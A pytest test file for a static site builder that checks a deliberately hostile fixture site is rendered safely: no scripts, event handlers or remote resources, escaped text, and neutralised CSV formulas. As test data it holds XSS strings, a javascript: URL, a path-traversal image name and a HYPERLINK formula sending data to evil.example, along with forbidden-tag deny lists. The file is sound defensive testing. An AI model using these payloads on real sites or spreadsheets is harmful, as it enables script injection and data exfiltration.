"""The hostile fixture site builds into pages that run no script of its editors and load nothing remote."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest
import yaml

from builder.build import BuildOptions, build
from builder.search import search_view
from helpers import SITES

AS_OF = dt.date(2026, 12, 31)  # after every date in the fixture
HOSTILE = SITES / "hostile"
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "srcset", "background", "cite",
                  "xlink:href"}
RESOURCE_ATTRIBUTES = {"src", "srcset", "data", "poster", "background"}
FORBIDDEN_TAGS = {"iframe", "object", "embed", "style", "base", "frame", "frameset", "applet", "math",
                  "textarea", "foreignobject"}
SVG_RESOURCES = {"image", "use", "feimage"}  # our own inline SVG charts are fine; what they load is checked
CONTROLS = {"input", "button", "select", "option"}
_SCHEME = re.compile(r"^([a-z][a-z0-9+.-]*):")


BASE_PATH = urlsplit(yaml.safe_load((HOSTILE / "site.yaml").read_text("utf-8"))["base_url"]).path


def _browser_url(value: str) -> str:
    """A URL as a browser reads it: spaces and controls dropped, backslashes as slashes."""
    return re.sub(r"[\x00-\x20]+", "", value).replace("\\", "/").lower()


class PageAudit(HTMLParser):
    """Collects every unsafe thing in one page."""

    def __init__(self, page: Path, out: Path) -> None:
        super().__init__(convert_charrefs=True)
        self.page = page
        self.out = out
        self.problems: list[str] = []
        self.in_script = False
        self.in_search_form = False

    def local_file(self, src: str) -> Path | None:
        """The output file a same-site URL names; root-absolute URLs (404.html) map through base_url's path."""
        if src.startswith("/") and not src.startswith("//"):
            if not src.startswith(BASE_PATH):
                return None
            return (self.out / src[len(BASE_PATH):]).resolve()
        return (self.page.parent / src).resolve()

    def problem(self, text: str) -> None:
        self.problems.append(f"{self.page.relative_to(self.out)}:{self.getpos()[0]}: {text}")

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        if tag in FORBIDDEN_TAGS:
            self.problem(f"<{tag}> element")
        if tag == "script":
            self.in_script = True
            src = values.get("src", "")
            local = self.local_file(src) if src else None
            if not src or _SCHEME.match(_browser_url(src)) or src.startswith("//") or not local or not local.is_file():
                self.problem(f"script that is not one of the site's own files: {values}")
        if tag == "form":
            if _SCHEME.match(_browser_url(values.get("action", ""))) or "search-box" not in values.get("class", ""):
                self.problem(f"form that is not the site's search box: {values}")
            self.in_search_form = True
        if tag in CONTROLS and not self.in_search_form:
            self.problem(f"<{tag}> outside the site's search box")
        if tag == "meta" and "http-equiv" in values:
            self.problem("meta http-equiv")
        if tag == "link" and _SCHEME.match(_browser_url(values.get("href", ""))):
            self.problem(f"remote <link>: {values}")
        for name, value in values.items():
            if name.startswith("on"):
                self.problem(f"event handler attribute {name}")
            if name == "style":
                self.problem("style attribute")
            if name in URL_ATTRIBUTES:
                url = _browser_url(value)
                scheme = _SCHEME.match(url)
                if scheme and scheme.group(1) not in ("http", "https", "mailto", "tel"):
                    self.problem(f"{scheme.group(1)}: URL in {name}")
                is_resource = name in RESOURCE_ATTRIBUTES or (tag in SVG_RESOURCES and name.endswith("href"))
                if is_resource and (scheme or url.startswith("//")):
                    self.problem(f"external resource in {tag} {name}")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self.in_script = False
        if tag == "form":
            self.in_search_form = False

    def handle_data(self, data: str) -> None:
        if self.in_script and data.strip():
            self.problem("inline script")


@pytest.fixture(scope="module")
def hostile_output(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The hostile site, built once (without the search index, which only adds our own files)."""
    out = tmp_path_factory.mktemp("hostile") / "output"
    build(BuildOptions(HOSTILE, out, search=False, as_of=AS_OF))
    return out


def test_every_page_is_free_of_scripts_handlers_and_remote_resources(hostile_output: Path) -> None:
    pages = sorted(hostile_output.rglob("*.html"))
    assert len(pages) > 20
    problems: list[str] = []
    for page in pages:
        audit = PageAudit(page, hostile_output)
        audit.feed(page.read_text("utf-8"))
        audit.close()
        problems += audit.problems
    assert problems == []


def test_hostile_text_is_shown_as_text(hostile_output: Path) -> None:
    page = (hostile_output / "merchants" / "script-name" / "index.html").read_text("utf-8")
    assert "&lt;script&gt;alert(&#39;name&#39;)&lt;/script&gt;测试商店" in page
    assert "{{ config.title }} {% raw %}" in page  # not evaluated as a template
    article = (hostile_output / "warnings" / "hostile" / "index.html").read_text("utf-8")
    assert "&lt;script&gt;alert(&#39;title&#39;)&lt;/script&gt;提醒" in article
    assert 'alt="本地"' in article and "evil.example/a.png" not in article


def test_a_statement_posing_as_a_search_body_stays_in_the_merchant_s_view(hostile_output: Path) -> None:
    """A statement holding `</article><article data-pagefind-body>` is text: Pagefind is still given the page's one
    search body (not the whole page, whose footer it would read), with the statement in it as text."""
    page = (hostile_output / "merchants" / "script-name" / "index.html").read_text("utf-8")
    assert "&lt;/article&gt;&lt;article data-pagefind-body&gt;伪造" in page
    view = search_view(page)
    assert view != page and view.count("<article") == 1 and "信息截至" not in view  # the site footer is not in it
    assert "&lt;/article&gt;&lt;article data-pagefind-body&gt;伪造" in view and "<script" not in view


def test_spreadsheet_formulas_are_neutralised_in_csv(hostile_output: Path) -> None:
    raw = (hostile_output / "data" / "complaints.csv").read_bytes()
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK(\"https://evil.example/?\"&A1,\"点击\")" in cells
    assert "'+SUM(1,2)" in cells and "'@SUM(A1)" in cells and "'-2+3 测试" in cells
    # JSON keeps the data as it is: it is not interpreted by spreadsheets.
    names = {record["name"] for record in json.loads((hostile_output / "data" / "complaints.json").read_text("utf-8"))}
    assert "=HYPERLINK(\"https://evil.example/?\"&A1,\"点击\")" in names


def test_spreadsheet_formulas_are_neutralised_in_the_items_csv(hostile_output: Path) -> None:
    for path in (hostile_output / "data" / "items.csv", hostile_output / "data" / "2026-11" / "items.csv"):
        rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))
        cells = [cell for row in rows[1:] for cell in row]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], path
        assert {"'=1+1 公式", "'@SUM(A1)", "'-1 元", "'+SUM(1,2)"} <= set(cells), path
    items = json.loads((hostile_output / "data" / "items.json").read_text("utf-8"))
    assert {"=1+1 公式", "@SUM(A1)"} <= {value for item in items for value in item.values()}


def test_feed_and_sitemap_are_well_formed_with_hostile_titles(hostile_output: Path) -> None:
    import xml.etree.ElementTree as ET

    feed = ET.parse(hostile_output / "feed.xml").getroot()
    titles = [el.text for el in feed.iter() if el.tag.endswith("title")]
    assert "<script>alert('title')</script>提醒" in titles
    ET.parse(hostile_output / "sitemap.xml")


def test_the_audit_itself_catches_what_it_looks_for(tmp_path: Path) -> None:
    page = tmp_path / "x.html"
    page.write_text("", "utf-8")
    audit = PageAudit(page, tmp_path)
    audit.feed('<script>alert(1)</script><img src="x" onerror="a()"><a href=" JavaScript:x">a</a>'
               '<img src="\\\\evil.example\\a.png"><iframe></iframe><p style="x">p</p><form action="https://e/">'
               '<svg><use href="https://evil.example/s.svg#x"></use></svg>')
    found = " | ".join(audit.problems)
    for words in ("script that is not", "inline script", "onerror", "javascript: URL", "external resource",
                  "<iframe>", "style attribute", "form that is not", "external resource in use href"):
        assert words in found


def test_image_path_tricks_publish_only_the_named_files_under_safe_urls(hostile_output: Path) -> None:
    files = sorted(p.relative_to(hostile_output).as_posix() for p in (hostile_output / "files").rglob("*")
                   if p.is_file())
    assert files == ['files/warnings/img/引号"onerror="alert(1).png', "files/warnings/local.png",
                     "files/warnings/现场.png"]
    assert not [p for p in hostile_output.rglob("*.yaml")]  # `local.png?../../../site.yaml` names local.png only
    article = (hostile_output / "warnings" / "hostile" / "index.html").read_text("utf-8")
    quoted = "../../files/warnings/img/%E5%BC%95%E5%8F%B7%22onerror%3D%22alert%281%29.png"
    assert f'<img src="{quoted}" alt="引号" width="4" height="4">' in article
    assert f'<a href="{quoted}" rel="noopener noreferrer">引号附件（PNG，1 KB）</a>' in article
    assert article.count('src="../../files/warnings/local.png"') == 3 and article.count('width="8" height="6"') == 4
    assert 'src="../../files/warnings/local.png?../../../site.yaml"' in article  # the query kept, as written
    assert 'src="../../files/warnings/%E7%8E%B0%E5%9C%BA.png"' in article
    from tools.linkcheck import check_site

    assert check_site(hostile_output, skip_pages=["404.html"]) == []
